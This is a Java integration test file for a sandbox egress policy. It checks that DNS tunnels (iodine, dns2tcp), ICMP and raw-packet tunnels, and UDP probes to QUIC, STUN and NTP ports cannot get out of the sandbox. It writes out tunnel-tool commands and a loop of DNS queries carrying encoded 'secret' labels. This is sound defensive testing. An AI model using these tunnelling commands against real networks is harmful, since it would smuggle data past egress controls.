package dev.glovebox.egress;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.glovebox.protocol.egress.EgressPolicy;
import dev.glovebox.protocol.egress.HostName;
import java.io.BufferedReader;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/// D11 to D15: the tunnels that are made for networks which let through names or pings only, by the
/// programs that make them. Each works from the worker's machine; from inside no packet comes out,
/// even for root.
class TunnelAttackIT {
    private static final String UDP =
            """
            import socket, sys, time
            for target in sys.argv[1:]:
                host, port = target.rsplit("/", 1)
                one = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                one.settimeout(2)
                began = time.time()
                try:
                    one.connect((host, int(port)))
                    one.send(b"\\xc0\\0\\0\\0\\1" + bytes(1195))
                    one.recv(1500)
                    print(target, "heard something")
                except OSError as e:
                    print(target, "refused" if time.time() - began < 1 else "late", type(e).__name__)
            """;

    @RegisterExtension final Internet internet = new Internet();
    @TempDir Path directory;
    private final List<HostName> lookedUp = new CopyOnWriteArrayList<>();
    private Door door;
    private Inside inside;

    @BeforeEach
    void open() throws Exception {
        internet.web(Internet.GOOD);
        internet.name("a.tunnel.test", Internet.GOOD);
        Doors doors = internet.doors(directory.resolve("doors"), lookedUp);
        door =
                internet.door(
                        doors,
                        "one",
                        EgressPolicy.parse(
                                "rules: [{name: web, host: '*.tunnel.test', protocol: http, action: allow}]"));
        inside = new Inside(door, directory);
    }

    private void allowedWayLeadsOut() throws Exception {
        long before = internet.packets();
        assertThat(inside.curl("http://a.tunnel.test/ok").output()).endsWith("200");
        assertThat(internet.packets()).isGreaterThan(before);
        lookedUp.clear();
    }

    /// The number of packets when what came before has come to rest.
    private long settled() throws IOException {
        long[] last = {-1};
        await().pollInterval(Duration.ofMillis(300))
                .until(() -> {
                    long before = last[0];
                    last[0] = internet.packets();
                    return before == last[0];
                });
        return last[0];
    }

    private Process server(String... command) throws Exception {
        List<String> line =
                new ArrayList<>(
                        List.of("nsenter", "--net=/proc/" + internet.out().pid() + "/ns/net"));
        line.addAll(List.of(command));
        Process process = start(line);
        internet.closedLater(process::destroyForcibly);
        return process;
    }

    private static Process start(List<String> line) throws IOException {
        ProcessBuilder builder = new ProcessBuilder(line).redirectErrorStream(true);
        builder.environment().merge("PATH", ":/usr/sbin:/sbin", String::concat);
        return builder.start();
    }

    /// Root in the door's namespace, which no sandbox has.
    private Process root(String... command) throws IOException {
        List<String> line = new ArrayList<>(List.of("nsenter", "--net=" + door.networkNamespace()));
        line.addAll(List.of(command));
        return start(line);
    }

    private Process outside(String... command) throws IOException {
        List<String> line =
                new ArrayList<>(
                        List.of("nsenter", "--net=/proc/" + internet.host().pid() + "/ns/net"));
        line.addAll(List.of(command));
        return start(line);
    }

    /// Reads until a line says so or the program ends.
    private static String until(Process process, String text) throws Exception {
        StringBuilder said = new StringBuilder();
        try (BufferedReader lines = process.inputReader()) {
            for (String line = lines.readLine(); line != null; line = lines.readLine()) {
                said.append(line).append('\n');
                if (line.contains(text)) {
                    break;
                }
            }
        } finally {
            process.destroyForcibly();
            process.waitFor(10, TimeUnit.SECONDS);
        }
        return said.toString();
    }

    /// D13.
    @Test
    void iodine_findsNoWayOut() throws Exception {
        String connected = "Connection setup complete";
        server("iodined", "-f", "-P", "word", "-l", Internet.NAMES, "10.99.0.1", "tunnel.test");
        String[] client = {
            "timeout", "25", "iodine", "-f", "-r", "-P", "word", Internet.NAMES, "tunnel.test"
        };
        assertThat(until(outside(client), connected)).as("positive control").contains(connected);
        long before = settled();
        for (String type : List.of("NULL", "TXT", "A")) {
            List<String> typed = new ArrayList<>(List.of(client));
            typed.addAll(3, List.of("-T", type));
            assertThat(until(root(typed.toArray(String[]::new)), connected))
                    .as(type)
                    .doesNotContain(connected);
        }
        assertThat(internet.packets()).isEqualTo(before);
        assertThat(lookedUp).isEmpty();
        allowedWayLeadsOut();
    }

    /// D13.
    @Test
    void dns2tcp_findsNoWayOut() throws Exception {
        Path config =
                Files.writeString(
                        directory.resolve("dns2tcpd"),
                        "listen = %s\nport = 53\nuser = nobody\nchroot = %s\ndomain = tunnel.test\nresources = web:127.0.0.1:80\n"
                                .formatted(Internet.NAMES, directory));
        Process server = server("dns2tcpd", "-F", "-d", "1", "-f", config.toString());
        String[] client = {"timeout", "20", "dns2tcpc", "-z", "tunnel.test", Internet.NAMES};
        String found = "web";
        Instant end = Instant.now().plusSeconds(30);
        String said = "";
        while (!said.contains(found) && Instant.now().isBefore(end) && server.isAlive()) {
            said = until(outside(client), found);
        }
        assertThat(said).as("positive control").contains(found);
        long before = settled();
        assertThat(until(root(client), found)).doesNotContain(found);
        assertThat(internet.packets()).isEqualTo(before);
        assertThat(lookedUp).isEmpty();
        allowedWayLeadsOut();
    }

    /// D12: names that an allowed pattern fits carry nothing out by being asked for, and get
    /// addresses up to a number.
    @Test
    void tenThousandNamesOfAnAllowedPattern_goNowhere() throws Exception {
        DoorRig.address(door, "a.tunnel.test");
        long before = internet.packets();
        int answered =
                door.namespace()
                        .enter(() -> {
                            int count = 0;
                            try (DatagramSocket socket = new DatagramSocket()) {
                                socket.setSoTimeout(5_000);
                                socket.connect(InetAddress.ofLiteral("198.18.0.1"), 53);
                                byte[] room = new byte[512];
                                for (int i = 0; i < 10_000; i++) {
                                    byte[] query = query("c2VjcmV0" + i + ".tunnel.test");
                                    socket.send(new DatagramPacket(query, query.length));
                                    DatagramPacket answer = new DatagramPacket(room, room.length);
                                    socket.receive(answer);
                                    count += (room[3] & 0xf) == 0 ? 1 : 0;
                                }
                            }
                            return count;
                        });
        assertThat(answered).isBetween(1, DoorLimits.DEFAULT.names());
        assertThat(internet.packets()).isEqualTo(before);
        assertThat(lookedUp).isEmpty();
        assertThat(door.denialsSince(Instant.EPOCH))
                .anyMatch(each -> each.destination().equals("c2VjcmV09999.tunnel.test"));
        allowedWayLeadsOut();
    }

    private static byte[] query(String name) {
        ByteBuffer out = ByteBuffer.allocate(512);
        out.putShort((short) 7)
                .putShort((short) 0x0100)
                .putShort((short) 1)
                .putInt(0)
                .putShort((short) 0);
        for (String label : name.split("\\.", -1)) {
            out.put((byte) label.length()).put(label.getBytes(StandardCharsets.US_ASCII));
        }
        out.put((byte) 0).putShort((short) 1).putShort((short) 1);
        return Arrays.copyOf(out.array(), out.position());
    }

    /// D14: there is no ICMP tunnel without one of these sockets.
    @Test
    void pingsAndRawPackets_areRefused() throws Exception {
        assertThat(internet.host().run("ping", "-c1", "-W5", Internet.GOOD)).contains("1 received");
        assertThat(internet.host().run("hping3", "--icmp", "-c", "1", "-d", "50", Internet.GOOD))
                .contains("1 packets received");
        long before = settled();
        for (String[] command :
                new String[][] {
                    {"ping", "-c1", "-W2", Internet.GOOD},
                    {"ping", "-6", "-c1", "-W2", Internet.GOOD_6},
                    {"/usr/sbin/hping3", "--icmp", "-c", "1", Internet.GOOD},
                    {"/usr/sbin/hping3", "--udp", "-c", "1", Internet.GOOD},
                    {"/usr/sbin/hping3", "--rawip", "-c", "1", Internet.GOOD},
                    {"/usr/sbin/hping3", "-S", "-p", "80", "-c", "1", Internet.GOOD}
                }) {
            Inside.Result answer = inside.run(command);
            assertThat(answer.exit()).as("%s: %s", List.of(command), answer.output()).isNotZero();
            until(root(command), "no such line");
        }
        assertThat(internet.packets()).isEqualTo(before);
        allowedWayLeadsOut();
    }

    /// D11, D15: QUIC, STUN, NTP, and names over anything but the door's own server.
    @Test
    void datagrams_areRefusedAtOnce() throws Exception {
        long before = internet.packets();
        String address = DoorRig.address(door, "a.tunnel.test").getHostAddress();
        List<String> targets =
                List.of(
                        address + "/443",
                        Internet.GOOD + "/443",
                        Internet.GOOD_6 + "/443",
                        Internet.GOOD + "/3478",
                        Internet.GOOD + "/123",
                        Internet.NAMES + "/853",
                        Internet.NAMES + "/5353",
                        "ff02::fb/5353");
        List<String> groups = List.of("224.0.0.251/5353", "224.0.0.252/5355", "255.255.255.255/67");
        List<String> command = new ArrayList<>(List.of("/usr/bin/python3", "-c", UDP));
        command.addAll(targets);
        command.addAll(groups);
        List<String> said = inside.run(command.toArray(String[]::new)).output().lines().toList();
        assertThat(said).noneMatch(line -> line.contains("heard"));
        assertThat(said.subList(0, targets.size())).allMatch(line -> line.contains(" refused "));
        assertThat(said).hasSize(targets.size() + groups.size());
        assertThat(internet.packets()).isEqualTo(before);
        allowedWayLeadsOut();
    }
}
